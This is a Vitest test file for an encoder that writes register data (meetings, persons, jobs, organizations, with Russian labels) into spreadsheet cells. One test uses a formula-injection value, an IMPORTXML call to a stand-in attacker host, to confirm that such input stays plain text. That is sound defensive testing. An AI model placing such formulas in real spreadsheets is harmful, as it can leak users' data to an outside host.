import { describe, expect, test } from 'vitest';
import { assignIds, refreshLabels } from '../../../src/application/workbook/assign-ids';
import { decodeRegister } from '../../../src/application/workbook/decode-register';
import { encodeChanges } from '../../../src/application/workbook/encode-changes';
import { installRequests } from '../../../src/application/workbook/install/install-requests';
import { serialOfDate } from '../../../src/application/workbook/reading/plain-dates';
import type { RowChange } from '../../../src/application/workbook/row-change';
import { sheetOf } from '../../../src/application/workbook/sheets';
import { syncRows } from '../../../src/application/workbook/sync-rows';
import { writeRegister } from '../../../src/application/workbook/write-register';
import { headerOf, row } from './grids';
import { smallRegister } from './small-register';
import { TestWorkbook } from './test-workbook';

const decoded = () => decodeRegister({ grids: smallRegister() });
const column = (sheet: Parameters<typeof headerOf>[0], title: string) => headerOf(sheet).indexOf(title);

/** A workbook of the local runtime with the small register in it. */
function book(): TestWorkbook {
  const workbook = new TestWorkbook();
  workbook.apply(installRequests(workbook.inspect(), { regulations: [], norms: [], calendar: [], methodistEmail: '' }));
  workbook.apply(writeRegister(decoded().snapshot, decodeRegister(workbook.read())));
  return workbook;
}

const written = (workbook: TestWorkbook, changes: readonly RowChange[]) => {
  workbook.apply(encodeChanges(decodeRegister(workbook.read()), changes));
  return decodeRegister(workbook.read());
};

describe('cells', () => {
  test('a date is a number with the format of a date', () => {
    const requests = encodeChanges(decoded(), [
      { kind: 'update', sheet: 'meetings', id: 'З-2', fields: { date: '2026-12-17' } },
    ]);
    expect(requests).toEqual([
      {
        updateCells: {
          start: { sheetId: 7011, rowIndex: 2, columnIndex: 2 },
          rows: [
            {
              values: [
                {
                  userEnteredValue: { numberValue: serialOfDate('2026-12-17') },
                  userEnteredFormat: { numberFormat: { type: 'DATE', pattern: 'dd.mm.yyyy' } },
                },
                // The label holds the date too.
              ],
            },
          ],
          fields: 'userEnteredValue,userEnteredFormat.numberFormat',
        },
      },
      expect.objectContaining({
        updateCells: expect.objectContaining({ start: { sheetId: 7011, rowIndex: 2, columnIndex: 23 } }),
      }),
    ]);
  });

  test('what looks like a formula, a number or a date stays text through the spreadsheet', () => {
    const workbook = book();
    const evil = '=IMPORTXML("https://evil.example","//a")';
    const { snapshot } = written(workbook, [
      { kind: 'update', sheet: 'meetings', id: 'З-1', fields: { theme: evil, number: '5/6', minutesNumber: '007' } },
    ]);
    expect(snapshot.meetings[0]).toMatchObject({ theme: evil, number: '5/6', minutesNumber: '007' });
  });

  test('words for codes, labels for references, lines for lists, nothing for null', () => {
    const workbook = book();
    written(workbook, [
      {
        kind: 'update',
        sheet: 'meetings',
        id: 'З-1',
        fields: { status: 'postponed', groupIds: ['О-2', 'О-1'], date: null, isExtraordinary: true },
      },
    ]);
    const cells = workbook.read().grids.meetings?.values[1] ?? [];
    expect(cells[column('meetings', 'Состояние')]).toBe('перенесено');
    expect(cells[column('meetings', 'Объединения')]).toBe('ММО химиков (О-2)\nММО учителей математики (О-1)');
    expect(cells[column('meetings', 'Дата')]).toBe('');
    expect(cells[column('meetings', 'Внеочередное')]).toBe('да');
  });

  test('cells that hold the value already are left alone', () => {
    const { snapshot } = decoded();
    const [meeting] = snapshot.meetings;
    const grids = smallRegister();
    const labelled = decodeRegister({ grids });
    const requests = encodeChanges(labelled, [
      { kind: 'update', sheet: 'meetings', id: 'З-1', fields: { ...meeting, theme: 'новая' } },
    ]);
    const starts = requests.map(
      (request) => (request.updateCells as { start: { columnIndex: number } }).start.columnIndex,
    );
    expect(starts).toEqual([column('meetings', 'Тема'), column('meetings', 'Для выбора')]);
  });

  test('a jump to a row is words with an address made of numbers', () => {
    const [request = {}] = encodeChanges(decoded(), [
      { kind: 'insert', sheet: 'verdicts', row: { id: 'к', outcome: 'met', row: { table: 'meetings', id: 'З-2' } } },
    ]);
    const { rows } = request.appendCells as { rows: { values: object[] }[] };
    const values = rows[0]?.values ?? [];
    expect(values[10]).toEqual({
      userEnteredValue: { stringValue: 'Заседания, строка 3' },
      userEnteredFormat: {
        numberFormat: { type: 'TEXT', pattern: '@' },
        textFormat: { link: { uri: '#gid=7011&range=A3' } },
      },
    });
  });

  test('a reference to a row that is written in the same batch has its label', () => {
    const workbook = book();
    written(workbook, [
      { kind: 'insert', sheet: 'persons', row: { id: 'П-9', lastName: 'Юн', firstName: 'Ли' } },
      { kind: 'insert', sheet: 'jobs', row: { id: 'МР-9', personId: 'П-9', organizationId: 'ОО-1' } },
    ]);
    const cells = workbook.read().grids.jobs?.values[3] ?? [];
    expect(cells[column('jobs', 'Педагог')]).toBe('Юн Ли (П-9)');
    expect(cells[column('jobs', 'Для выбора')]).toBe('Юн Ли, Школа № 1 (МР-9)');
  });

  test('labels in cells are kept when the other sheet was not read', () => {
    const { meetings } = smallRegister();
    const alone = decodeRegister({ grids: meetings === undefined ? {} : { meetings } });
    const [request = {}] = encodeChanges(alone, [
      { kind: 'update', sheet: 'meetings', id: 'З-1', fields: { presentIds: ['П-2', 'П-7'] } },
    ]);
    const { rows } = request.updateCells as { rows: { values: { userEnteredValue: object }[] }[] };
    expect(rows[0]?.values[0]?.userEnteredValue).toEqual({ stringValue: 'Петрова Анна Ивановна (П-2)\nП-7' });
  });
});

describe('order of requests', () => {
  test('updates, then deletions from the bottom up, then additions: every row lands where it belongs', () => {
    const workbook = book();
    const { snapshot } = written(workbook, [
      { kind: 'insert', sheet: 'persons', row: { id: 'П-5', lastName: 'Новая' } },
      { kind: 'delete', sheet: 'persons', id: 'П-1' },
      { kind: 'delete', sheet: 'persons', id: 'П-3' },
      { kind: 'update', sheet: 'persons', id: 'П-4', fields: { lastName: 'Цой' } },
    ]);
    expect(snapshot.persons.map(({ id, lastName }) => [id, lastName])).toEqual([
      ['П-2', 'Петрова'],
      ['П-4', 'Цой'],
      ['П-5', 'Новая'],
    ]);
  });

  test('following rows are deleted by one request, and equal columns of following rows are one block', () => {
    const requests = encodeChanges(decoded(), [
      { kind: 'delete', sheet: 'persons', id: 'П-2' },
      { kind: 'delete', sheet: 'persons', id: 'П-3' },
      { kind: 'update', sheet: 'meetings', id: 'З-1', fields: { place: 'зал' } },
      { kind: 'update', sheet: 'meetings', id: 'З-2', fields: { place: 'зал' } },
    ]);
    expect(requests[0]).toEqual({
      deleteDimension: { range: { sheetId: 7005, dimension: 'ROWS', startIndex: 2, endIndex: 4 } },
    });
    const places = requests[1]?.updateCells as { start: object; rows: object[] };
    expect(places.start).toEqual({ sheetId: 7011, rowIndex: 1, columnIndex: column('meetings', 'Место') });
    expect(places.rows).toHaveLength(2);
  });

  test('moved columns are written where they stand', () => {
    const grids = smallRegister();
    for (const cells of grids.organizations?.values ?? []) cells.reverse();
    const requests = encodeChanges(decodeRegister({ grids }), [
      { kind: 'update', sheet: 'organizations', id: 'ОО-2', fields: { place: 'Любим' } },
    ]);
    const columnIndex = headerOf('organizations').reverse().indexOf('Место');
    expect(requests).toContainEqual({
      updateCells: expect.objectContaining({ start: { sheetId: 7004, rowIndex: 2, columnIndex } }),
    });
  });

  test('a row that was not read cannot be changed', () => {
    expect(() => encodeChanges(decoded(), [{ kind: 'delete', sheet: 'jobs', id: 'нет' }])).toThrow('нет');
  });
});

describe('rows typed by hand', () => {
  test('count at once, get ids and labels, and references by name become labels', () => {
    const grids = smallRegister();
    grids.persons?.values.push(row('persons', { Фамилия: 'Орлова', Имя: 'Яна' }));
    grids.jobs?.values.push(row('jobs', { Педагог: 'орлова яна', Организация: 'ОО-1' }));
    let number = 0;
    const read = decodeRegister({ grids }, undefined, { newId: (sheet) => `${sheetOf(sheet).idPrefix}-н${++number}` });
    expect(read.snapshot.persons[4]).toMatchObject({ id: 'П-н1', lastName: 'Орлова' });
    expect(read.snapshot.jobs[2]).toMatchObject({ id: 'МР-н2', personId: 'П-н1' });
    expect(assignIds(read)).toEqual([
      { kind: 'update', sheet: 'persons', id: 'П-н1', fields: { id: 'П-н1' } },
      { kind: 'update', sheet: 'jobs', id: 'МР-н2', fields: { id: 'МР-н2' } },
    ]);
    expect(refreshLabels(read)).toContainEqual({
      kind: 'update',
      sheet: 'jobs',
      id: 'МР-н2',
      fields: { personId: 'П-н1', organizationId: 'ОО-1' },
    });
  });

  test('after ids and labels are written there is nothing left to write', () => {
    const workbook = book();
    workbook.type(7005, 5, column('persons', 'Фамилия'), 'Орлова');
    const read = decodeRegister(workbook.read(), undefined, { newId: () => 'П-5' });
    workbook.apply(encodeChanges(read, [...assignIds(read), ...refreshLabels(read)]));
    const again = decodeRegister(workbook.read());
    expect([...assignIds(again), ...refreshLabels(again)]).toEqual([]);
    expect(again.snapshot.persons[4]).toMatchObject({ id: 'П-5', lastName: 'Орлова' });
  });

  test('a renamed person is renamed in the references, and cells with an unknown name are left to their author', () => {
    const grids = smallRegister();
    const persons = grids.persons?.values[1] ?? [];
    persons[column('persons', 'Фамилия')] = 'Волкова';
    const meeting = grids.meetings?.values[1] ?? [];
    meeting[column('meetings', 'Присутствовали')] = 'Иванова Мария Петровна (П-1)\nНеизвестная';
    const changes = refreshLabels(decodeRegister({ grids }));
    const fieldsOf = (sheet: string, id: string) =>
      changes.find((change) => change.kind === 'update' && change.sheet === sheet && change.id === id);
    expect(fieldsOf('memberships', 'С-1')).toMatchObject({ fields: { personId: 'П-1' } });
    expect(fieldsOf('meetings', 'З-1')).toMatchObject({ fields: {} });
  });
});

describe('generated sheets', () => {
  test('rows are overwritten, added and removed so that exactly the wanted ones stay', () => {
    const workbook = book();
    const verdict = (id: string, message: string) => ({
      id,
      message,
      outcome: 'met',
      groupId: 'О-1',
      schoolYear: '2026/27',
    });
    written(
      workbook,
      syncRows(decodeRegister(workbook.read()), 'verdicts', [verdict('а', '1'), verdict('б', '2'), verdict('в', '3')]),
    );
    const second = decodeRegister(workbook.read());
    const changes = syncRows(second, 'verdicts', [verdict('б', '2'), verdict('г', '4')]);
    expect(changes.map(({ kind }) => kind)).toEqual(['update', 'delete']);
    const { kept } = written(workbook, changes);
    expect(kept.verdicts.map(({ id, message }) => [id, message]).sort()).toEqual([
      ['б', '2'],
      ['г', '4'],
    ]);
  });
});

describe('versions of rows', () => {
  const grids = smallRegister();
  const version = () => decodeRegister({ grids }).versionOf('organizations', 'ОО-1');
  const before = version();
  const cells = grids.organizations?.values[1] ?? [];

  test('the version changes with any of our cells and tells text from number', () => {
    cells[column('organizations', 'Рабочая неделя')] = '6';
    expect(version()).not.toBe(before);
    cells[column('organizations', 'Рабочая неделя')] = 6;
    expect(version()).toBe(before);
  });

  test('people’s own columns and labels do not change it', () => {
    cells[headerOf('organizations').length] = 'своё';
    cells[column('organizations', 'Для выбора')] = 'Школа № 1 (ОО-1)';
    expect(version()).toBe(before);
  });
});
